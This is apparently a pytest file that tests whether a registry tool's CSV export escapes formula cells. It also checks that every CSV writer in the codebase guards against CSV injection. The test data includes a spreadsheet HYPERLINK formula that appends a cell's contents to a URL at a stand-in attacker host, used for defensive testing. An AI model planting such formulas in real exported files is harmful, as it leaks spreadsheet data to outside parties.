# SPDX-License-Identifier: Apache-2.0
"""`registry sml squatting`: what is odd about registrations, for people and for spreadsheets."""

import csv
import re

import pytest
from typer.testing import CliRunner

from registry.cli.main import app
from registry.sml.admission.squatting import Finding, Sign
from tests.conftest import ROOT
from tests.simulators.offline import OfflineInstance

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_no_cell_is_taken_for_a_formula(offline: OfflineInstance, monkeypatch: pytest.MonkeyPatch) -> None:
    odd = Finding(next(iter(Sign)), f"{FORMULA}::1", "+SMP", offline.clock.now, "-1+1")
    monkeypatch.setenv("REGISTRY_DATA_DIR", str(offline.folder))
    monkeypatch.setattr("registry.sml.admission.squatting.findings", lambda *_: [odd])
    result = CliRunner().invoke(app, ["sml", "squatting", "--csv"])
    (row,) = csv.DictReader(result.stdout.splitlines())
    assert (row["participant"], row["smp_id"], row["detail"]) == (f"'{FORMULA}::1", "'+SMP", "'-1+1")


def test_every_table_that_is_written_guards_its_cells() -> None:
    """Those of other modules, too: what writes CSV has to say what becomes of formulas (OWASP, CSV injection)."""
    sources = {path.name: path.read_text() for path in (ROOT / "registry").rglob("*.py")}
    writes = {name for name, text in sources.items() if re.search(r"\bcsv\w*\.writer\(", text) or "DictWriter(" in text}
    assert len(writes) >= 5
    assert {name for name in writes if "guarded" not in sources[name]} == set()
